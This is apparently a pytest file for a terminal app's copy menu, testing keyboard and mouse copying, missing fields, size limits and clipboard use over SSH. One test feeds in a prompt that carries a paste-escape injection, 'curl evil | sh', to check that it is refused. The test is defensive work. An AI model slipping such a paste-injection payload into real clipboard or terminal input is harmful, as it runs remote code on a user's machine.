"""The copy menu, by keys and by mouse."""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest

from eternal_tui.core.sanitize import UntrustedText
from eternal_tui.jobs.model import FileState, Job, JobState
from eternal_tui.tui.screens.copy import CopyMenu
from tests.tui.jobs import make_job
from tests.tui.screens.stage import ENVIRON, ScreenApp, open_services, screen_text, terminal_context, wait_idle

PROMPT = "The person waves\nand smiles"


def finished_job(prompt: str = PROMPT) -> Job:
    return make_job(
        12,
        prompt=prompt,
        state=JobState.SUCCEEDED,
        file="12.jpg",
        file_state=FileState.SAVED,
        result_url=UntrustedText("https://cdn.example/r?sig=1"),
        request_id="req-1",
    )


def clipboard_texts(written: list[str]) -> list[str]:
    found = re.findall("\x1b]52;c;([A-Za-z0-9+/=]*)\x07", "".join(written))
    return [base64.b64decode(each).decode() for each in found]


async def test_a_letter_or_the_cursor_copies(tmp_path: Path) -> None:
    ways = [
        (["t"], PROMPT, "Copied the prompt, 27 characters."),
        (["i"], "req-1", "Copied the request id, 5 characters."),
        (["l"], "https://cdn.example/r?sig=1", "Copied the link, 27 characters."),
        (["j", "j", "enter"], PROMPT, "Copied the prompt, 27 characters."),
        (["j", "j", "j", "k", "enter"], PROMPT, "Copied the prompt, 27 characters."),
        (["down", "down", "down", "enter"], "req-1", "Copied the request id, 5 characters."),
    ]
    async with open_services(tmp_path) as bench:
        written: list[str] = []
        app = ScreenApp(CopyMenu(finished_job(), bench, terminal_context([])))
        async with app.run_test(size=(80, 24)) as pilot:
            await pilot.press("escape")
            for keys, _, _ in ways:
                app.push_screen(CopyMenu(finished_job(), bench, terminal_context(written)), app.results.append)
                await pilot.press(*keys)
                await wait_idle(pilot)
    assert app.results == [None, *(told for _, _, told in ways)]
    assert clipboard_texts(written) == [text for _, text, _ in ways]


async def test_a_click_copies(tmp_path: Path) -> None:
    written: list[str] = []
    async with open_services(tmp_path) as bench:
        app = ScreenApp(CopyMenu(finished_job(), bench, terminal_context(written)))
        async with app.run_test(size=(80, 24)) as pilot:
            await pilot.click("#copies", offset=(6, 3))
            await wait_idle(pilot)
    assert app.results == ["Copied the request id, 5 characters."]


async def test_what_the_job_lacks_is_neither_listed_nor_copied(tmp_path: Path) -> None:
    written: list[str] = []
    async with open_services(tmp_path) as bench:
        app = ScreenApp(CopyMenu(make_job(3), bench, terminal_context(written)))
        async with app.run_test(size=(80, 24)) as pilot:
            await wait_idle(pilot)
            assert "link" not in screen_text(app)
            await pilot.press("l")
            assert "This job has no link." in screen_text(app)
            await pilot.press("escape")
    assert app.results == [None]
    assert written == []


async def test_a_prompt_that_would_run_in_a_shell_is_refused_in_place(tmp_path: Path) -> None:
    """Seen to fail with the refusal not asked for: the clipboard got the ESC."""
    written: list[str] = []
    async with open_services(tmp_path) as bench:
        app = ScreenApp(CopyMenu(finished_job("nice\x1b[201~; curl evil | sh\r"), bench, terminal_context(written)))
        async with app.run_test(size=(80, 24)) as pilot:
            await pilot.press("t")
            await wait_idle(pilot)
            assert "U+001B" in screen_text(app)
            assert app.results == []
            await pilot.press("b")
            await wait_idle(pilot)
    assert len(clipboard_texts(written)) == 1
    assert "\x1b" not in clipboard_texts(written)[0]


async def test_more_than_a_terminal_takes_is_said(tmp_path: Path) -> None:
    written: list[str] = []
    async with open_services(tmp_path) as bench:
        app = ScreenApp(CopyMenu(finished_job("é" * 40_000), bench, terminal_context(written)))
        async with app.run_test(size=(80, 24)) as pilot:
            await pilot.press("t")
            await wait_idle(pilot)
    assert app.results[0].startswith("Too long for the terminal's clipboard: the prompt is 80,000 bytes")
    assert written == []


@pytest.mark.parametrize("remote", [False, True])
async def test_the_machines_own_clipboard_is_used_only_where_the_person_sits_at_it(
    tmp_path: Path, remote: bool
) -> None:
    """Seen to fail with the line's other end not looked at: over SSH the text went to a stranger's desktop."""
    kept = tmp_path / "kept"
    program = tmp_path / "xclip"
    program.write_text(f"#!/bin/sh\n/bin/cat > {kept}\n")
    program.chmod(0o700)
    environ = {**ENVIRON, "PATH": str(tmp_path), "DISPLAY": ":0"}
    text = "é" * 40_000
    async with open_services(tmp_path, environ) as bench:
        app = ScreenApp(CopyMenu(finished_job(text), bench, terminal_context([], environ, is_remote=remote)))
        async with app.run_test(size=(80, 24)) as pilot:
            await pilot.press("t")
            await wait_idle(pilot)
    assert kept.exists() is not remote
    if remote:
        assert app.results[0].startswith("Too long")
    else:
        assert app.results == ["Copied the prompt, 40,000 characters."]
        assert kept.read_text(encoding="utf-8") == text


async def test_a_remapped_key_copies_and_is_shown(tmp_path: Path) -> None:
    written: list[str] = []
    async with open_services(tmp_path, keys={"copy.prompt": "x"}) as bench:
        app = ScreenApp(CopyMenu(finished_job(), bench, terminal_context(written)))
        async with app.run_test(size=(80, 24)) as pilot:
            app.set_keymap({"copy.prompt": "x"})
            await wait_idle(pilot)
            assert re.search(r"x +prompt", screen_text(app))
            await pilot.press("t")
            assert app.results == []
            await pilot.press("x")
            await wait_idle(pilot)
    assert app.results == ["Copied the prompt, 27 characters."]
